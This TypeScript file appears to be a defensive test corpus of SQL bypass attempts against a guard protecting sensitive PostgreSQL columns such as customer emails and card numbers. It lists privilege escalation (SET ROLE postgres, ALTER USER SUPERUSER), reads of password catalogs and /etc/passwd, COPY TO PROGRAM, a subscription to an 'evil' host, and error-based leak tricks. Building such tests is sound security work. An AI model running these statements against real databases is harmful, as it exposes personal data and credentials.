import type { Attack } from "./cases.ts";

/** More attacks as data: other names and places, sessions and roles, errors, and one form after the other over each protected column. */

/** What somebody makes, to read through it later. */
export const MADE: readonly Attack[] = [
  ["CREATE VIEW stolen AS SELECT email FROM customers", "SELECT * FROM stolen"],
  ["CREATE TEMP VIEW stolen AS SELECT * FROM customers", "SELECT * FROM stolen"],
  ["CREATE OR REPLACE VIEW customer_directory AS SELECT * FROM customers", "TABLE customer_directory"],
  ["CREATE MATERIALIZED VIEW stolen AS SELECT email FROM customers", "TABLE stolen"],
  ["CREATE TABLE stolen AS SELECT email FROM customers", "TABLE stolen"],
  ["CREATE TEMP TABLE stolen AS TABLE customers", "TABLE stolen"],
  ["SELECT email INTO stolen FROM customers", "TABLE stolen"],
  ["SELECT * INTO TEMP customers FROM public.customers", "TABLE customers"],
  ["CREATE TEMP TABLE tickets (email text)", "TABLE tickets"],
  ["CREATE TEMP TABLE customers (LIKE public.customers INCLUDING ALL)", "TABLE customers"],
  ["CREATE TEMP TABLE kid () INHERITS (public.customers)", "SELECT * FROM public.customers LIMIT 3"],
  [
    "CREATE FUNCTION steal() RETURNS text LANGUAGE sql AS 'SELECT email FROM public.customers LIMIT 1'",
    "SELECT steal()",
  ],
  ["CREATE FUNCTION pg_temp.f(text) RETURNS text LANGUAGE sql AS 'SELECT $1'", "SELECT pg_temp.f('x')"],
  "DO $$ BEGIN RAISE NOTICE '%', (SELECT email FROM public.customers LIMIT 1); END $$",
  "DO LANGUAGE plpgsql 'BEGIN RAISE EXCEPTION ''%'', (SELECT string_agg(email, '','') FROM public.customers); END'",
  "CREATE RULE r AS ON INSERT TO notes DO ALSO SELECT email FROM customers",
  "CREATE TRIGGER t BEFORE UPDATE ON customers FOR EACH ROW EXECUTE FUNCTION suppress_redundant_updates_trigger()",
  "CREATE DOMAIN nosy AS text CHECK (length(VALUE) > (SELECT count(*) FROM customers))",
  "CREATE CAST (text AS int) WITH INOUT",
  "CREATE OPERATOR === (FUNCTION = texteq, LEFTARG = text, RIGHTARG = text)",
  "CREATE AGGREGATE gather (text) (SFUNC = textcat, STYPE = text)",
  "CREATE POLICY p ON customers USING (true)",
  "CREATE INDEX ON customers ((email::int))",
  "CREATE STATISTICS s ON email, name FROM customers",
  "ALTER TABLE customers RENAME COLUMN email TO country2",
  "ALTER TABLE customers ALTER COLUMN email TYPE int USING email::int",
  "ALTER VIEW customer_directory RENAME TO other",
  "COMMENT ON TABLE customers IS 'x'",
  "SECURITY LABEL ON TABLE customers IS 'x'",
  "IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public",
  "CREATE SCHEMA stolen CREATE VIEW v AS SELECT email FROM public.customers",
  "ANALYZE VERBOSE customers",
  "VACUUM customers",
  "CLUSTER customers USING customers_pkey",
  "REINDEX TABLE customers",
  "CALL steal()",
];

/** Another name space, another user, another session. */
export const SESSIONS: readonly Attack[] = [
  ["SET search_path = pg_temp, public", "SELECT email FROM customers WHERE id = 7"],
  ["SET LOCAL search_path = information_schema, public", "SELECT email FROM customers WHERE id = 7"],
  ["SELECT set_config('search_path', 'public', true)", "SELECT email FROM customers WHERE id = 7"],
  ["SELECT set_config('search' || '_path', 'public', true)", "SELECT email FROM customers WHERE id = 7"],
  ["SET search_path = ''", "SELECT email FROM public.customers WHERE id = 7"],
  ['SET search_path TO "$user", public', "SELECT email FROM customers WHERE id = 7"],
  ["SET ROLE postgres", "SELECT email FROM customers WHERE id = 7"],
  ["SET LOCAL ROLE helpdesk_app", "SELECT email FROM customers WHERE id = 7"],
  ["SET SESSION AUTHORIZATION helpdesk_app", "SELECT email FROM customers WHERE id = 7"],
  ["SELECT set_config('role', 'helpdesk_app', true)", "SELECT email FROM customers WHERE id = 7"],
  ["SELECT set_config('session_authorization', 'postgres', true)", "TABLE customers"],
  ["RESET ROLE", "SELECT email FROM customers WHERE id = 7"],
  ["RESET ALL", "SELECT email FROM customers WHERE id = 7"],
  ["RESET SESSION AUTHORIZATION", "SELECT email FROM customers WHERE id = 7"],
  ["SET standard_conforming_strings = off", "SELECT 'a\\', email, ' ' FROM customers WHERE id = 7"],
  ["SET backslash_quote = on", "SELECT 'a\\' FROM customers', email FROM customers WHERE id = 7"],
  ["SET client_encoding = 'SJIS'", "SELECT email FROM customers WHERE id = 7"],
  ["SET NAMES 'GBK'", "SELECT email FROM customers WHERE id = 7"],
  ["SET client_encoding = 'BIG5'", "SELECT email FROM customers WHERE id = 7"],
  ["SELECT set_config('client_encoding', 'UHC', true)", "SELECT email FROM customers WHERE id = 7"],
  ["SET session_replication_role = replica", "SELECT email FROM customers WHERE id = 7"],
  ["SET row_security = off", "SELECT email FROM customers WHERE id = 7"],
  ["SET debug_print_plan = on; SET client_min_messages = debug5", "SELECT email FROM customers WHERE id = 7"],
  ["SET client_min_messages = log; SET log_statement_stats = on", "SELECT email FROM customers WHERE id = 7"],
  ["SET default_transaction_read_only = off", "SELECT email FROM customers WHERE id = 7"],
  "GRANT SELECT ON customers TO PUBLIC",
  "GRANT helpdesk_app TO cleo",
  "REVOKE ALL ON customers FROM anna",
  "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO cleo",
  "ALTER ROLE cleo SET search_path = pg_temp",
  "ALTER USER cleo SUPERUSER",
  "ALTER SYSTEM SET log_statement = 'all'",
  "ALTER DATABASE postgres SET search_path = x",
  "CREATE EXTENSION dblink",
  "CREATE ROLE thief",
  "CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p",
  "CREATE PUBLICATION p FOR ALL TABLES",
  "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw",
  "LOAD 'auto_explain'",
  "LISTEN x",
  ["LISTEN x", "NOTIFY x, 'y'"],
  "SELECT pg_notify('x', (SELECT email FROM customers WHERE id = 7))",
  "PREPARE TRANSACTION 'x'",
  "CHECKPOINT",
  "SELECT pg_reload_conf()",
  "SELECT pg_export_snapshot()",
];

const closed = (names: string, make: (name: string) => string): readonly string[] =>
  names.trim().split(/\s+/).map(make);

/** Places where the server keeps values, texts and secrets. */
export const PLACES: readonly Attack[] = [
  ...closed(
    `pg_statistic pg_stats pg_stats_ext pg_stats_ext_exprs pg_statistic_ext_data pg_stat_activity pg_prepared_statements
     pg_cursors pg_authid pg_shadow pg_user_mapping pg_user_mappings pg_subscription pg_largeobject pg_hba_file_rules
     pg_ident_file_mappings pg_file_settings pg_config pg_stat_replication pg_stat_ssl pg_stat_gssapi pg_backend_memory_contexts
     pg_shmem_allocations pg_prepared_xacts pg_stat_subscription pg_replication_origin_status`,
    (name) => `SELECT * FROM pg_catalog.${name}`,
  ),
  ...closed(
    "user_mapping_options user_mappings column_options",
    (name) => `TABLE information_schema.${name}`,
  ),
  ...closed(
    `query_to_xml_and_xmlschema query_to_xmlschema table_to_xmlschema table_to_xml_and_xmlschema`,
    (name) => `SELECT ${name}('customers', true, true, '')`,
  ),
  ...closed(
    `database_to_xml database_to_xmlschema database_to_xml_and_xmlschema`,
    (name) => `SELECT ${name}(true, true, '')`,
  ),
  ...closed(
    `pg_read_file pg_read_binary_file pg_ls_dir pg_stat_file lo_import lo_get lo_open loread lo_export
     pg_stat_get_backend_activity pg_stat_get_activity pg_logdir_ls pg_get_wal_records_info pg_ls_logdir`,
    (name) => `SELECT ${name}('1')`,
  ),
  "SELECT * FROM pg_stat_get_activity(NULL)",
  "SELECT pg_stat_get_backend_activity(s) FROM pg_stat_get_backend_idset() s",
  "SELECT * FROM pg_logical_slot_peek_changes('s', NULL, NULL)",
  "SELECT * FROM pg_prepared_statement()",
  "SELECT * FROM pg_cursor()",
  "SELECT pg_get_expr(adbin, adrelid) FROM pg_attrdef",
  "SELECT attmissingval::text FROM pg_attribute",
  "SELECT conbin::text, pg_get_constraintdef(oid) FROM pg_constraint WHERE connamespace = 2200",
  "SELECT relname, relpartbound::text FROM pg_class WHERE relispartition",
  "COPY customers TO STDOUT",
  "COPY customers (email) TO STDOUT (FORMAT csv, HEADER)",
  "COPY (SELECT email FROM customers) TO STDOUT (FORMAT binary)",
  "COPY (UPDATE customers SET country = 'x' WHERE id = 7 RETURNING *) TO STDOUT",
  "COPY customers TO '/tmp/stolen'",
  "COPY customers TO PROGRAM 'cat'",
  "COPY notes FROM '/etc/passwd'",
];

/** Errors and notices that would quote a value, were it there. */
export const ERRORS: readonly Attack[] = [
  "INSERT INTO customers VALUES (7, 'x', 'y', NULL, NULL, NULL, 'z', now())",
  "INSERT INTO customers (id) VALUES (7)",
  "INSERT INTO tickets (id, customer_id, subject, body, status, region, created_at) VALUES (7, 1, '', '', '', '', now())",
  "UPDATE customers SET country = NULL WHERE id = 7",
  "UPDATE customers SET created_at = NULL WHERE id < 9",
  "UPDATE customers SET id = 8 WHERE id = 7",
  "UPDATE tickets SET customer_id = 999999 WHERE id = 7",
  "UPDATE tickets SET status = NULL, region = NULL WHERE id = 7 RETURNING *",
  "DELETE FROM customers WHERE id = 7",
  "SELECT (c::text)::int FROM customers c WHERE id = 7",
  "SELECT (row_to_json(c)::text)::xml FROM customers c WHERE id = 7",
  "SELECT (to_jsonb(c)->>'email')::uuid FROM customers c WHERE id = 7",
  "SELECT jsonb_path_query(to_jsonb(c), 'strict $.email.datetime()') FROM customers c WHERE id = 7",
  "SELECT jsonb_path_query(to_jsonb(c), 'strict $.email.double()') FROM customers c WHERE id = 7",
  "SELECT to_regclass(email), email::regclass FROM customers WHERE id = 7",
  "SELECT email::regtype FROM customers WHERE id = 7",
  "SELECT regexp_replace('a', email || '(', '') FROM customers WHERE id = 7",
  "SELECT set_config(email, 'x', true) FROM customers WHERE id = 7",
  "SELECT current_setting(email) FROM customers WHERE id = 7",
  "SELECT current_setting('app.' || email) FROM customers WHERE id = 7",
  "SELECT nextval(email) FROM customers WHERE id = 7",
  "SELECT pg_relation_size(email::regclass) FROM customers WHERE id = 7",
  "SELECT convert_from(email::bytea, 'SJIS') FROM customers WHERE id = 7",
  "SELECT to_tsquery('simple', email || ' & (') FROM customers WHERE id = 7",
  "SELECT enum_first(email::text::regtype) FROM customers WHERE id = 7",
];

/** One form after the other, of one column: %c is the column, %t its relation. */
export const FORMS: readonly string[] = [
  "SELECT %c FROM %t WHERE id < 9",
  "SELECT %c AS id, id AS x FROM %t WHERE id < 9 ORDER BY 1",
  "SELECT encode(%c::bytea, 'hex'), encode(%c::bytea, 'base64'), encode(%c::bytea, 'escape') FROM %t WHERE id < 9",
  "SELECT reverse(%c), upper(%c), lower(%c), initcap(%c) FROM %t WHERE id < 9",
  "SELECT %c::varchar(40), %c::char(40), %c::name, CAST(%c AS bytea) FROM %t WHERE id < 9",
  "SELECT quote_literal(%c), quote_ident(%c), format('%L %I %s', %c, %c, %c), concat(%c, '-') FROM %t WHERE id < 9",
  "SELECT to_json(%c), to_jsonb(ARRAY[%c]), json_build_object('v', %c), jsonb_build_array(%c) FROM %t WHERE id < 9",
  "SELECT xmlelement(name x, %c), xmlforest(%c AS y), xmlcomment(replace(%c, '-', '')) FROM %t WHERE id < 9",
  "SELECT string_to_array(%c, '-'), regexp_split_to_array(%c, 'x'), ARRAY(SELECT %c) FROM %t WHERE id < 9",
  "SELECT regexp_matches(%c, '.*'), substring(%c from 1), overlay(%c placing '' from 1 for 0) FROM %t WHERE id < 9",
  "SELECT string_agg(%c, ','), min(%c), max(%c), array_agg(%c) FROM %t",
  "SELECT json_agg(%c), json_object_agg(id, %c), xmlagg(xmlelement(name x, %c)) FROM %t WHERE id < 9",
  "SELECT first_value(%c) OVER (ORDER BY id), lag(%c) OVER (ORDER BY id) FROM %t WHERE id < 9",
  "SELECT u FROM %t, unnest(ARRAY[%c]) u WHERE id < 9",
  "SELECT u FROM %t, regexp_split_to_table(%c, ' ') u WHERE id < 9",
  "SELECT v.* FROM %t, LATERAL (VALUES (%c), ('x')) v(a) WHERE id < 9",
  "SELECT convert_to(%c, 'UTF8'), decode(encode(convert_to(%c, 'UTF8'), 'hex'), 'hex') FROM %t WHERE id < 9",
  "SELECT CASE WHEN true THEN %c END, coalesce(%c, ''), greatest(%c, ''), nullif(%c, '') FROM %t WHERE id < 9",
  "SELECT (SELECT %c) , (SELECT (SELECT %c)) FROM %t WHERE id < 9",
  "SELECT %c::int FROM %t WHERE id = 7",
  "SELECT %c::date FROM %t WHERE id = 7",
  "SELECT %c::json FROM %t WHERE id = 7",
  "SELECT %c::uuid, %c::inet FROM %t WHERE id = 7",
  "SELECT ('{' || %c)::text[] FROM %t WHERE id = 7",
  "SELECT translate(%c, 'a', 'a'), rpad(%c, 60), lpad(%c, 60), trim(%c), left(%c, 40), repeat(%c, 2) FROM %t WHERE id < 9",
  "SELECT to_tsvector('simple', %c), quote_nullable(%c), %c || '' FROM %t WHERE id < 9",
  "WITH w AS MATERIALIZED (SELECT id, %c AS v FROM %t) SELECT v FROM w WHERE id < 9",
  "SELECT DISTINCT %c FROM %t GROUP BY %c HAVING max(%c) IS NOT NULL ORDER BY %c LIMIT 5",
  "SELECT %c FROM %t WHERE id < 9 UNION SELECT 'x' EXCEPT SELECT 'y'",
  "INSERT INTO notes (id, body) SELECT id, %c FROM %t WHERE id < 9 RETURNING body",
];

export const COLUMNS: readonly (readonly [relation: string, column: string])[] = [
  ["customers", "name"],
  ["customers", "email"],
  ["customers", "phone"],
  ["tickets", "body"],
  ["payments", "card_number"],
  ["contact_log", "email"],
  ["customer_directory", "email"],
  ["customer_copy", "name"],
  ["vip_customers", "email"],
];

/** Every form of one column. */
export function formsOf(relation: string, column: string): readonly string[] {
  return FORMS.map((form) => form.replaceAll("%c", column).replaceAll("%t", relation));
}
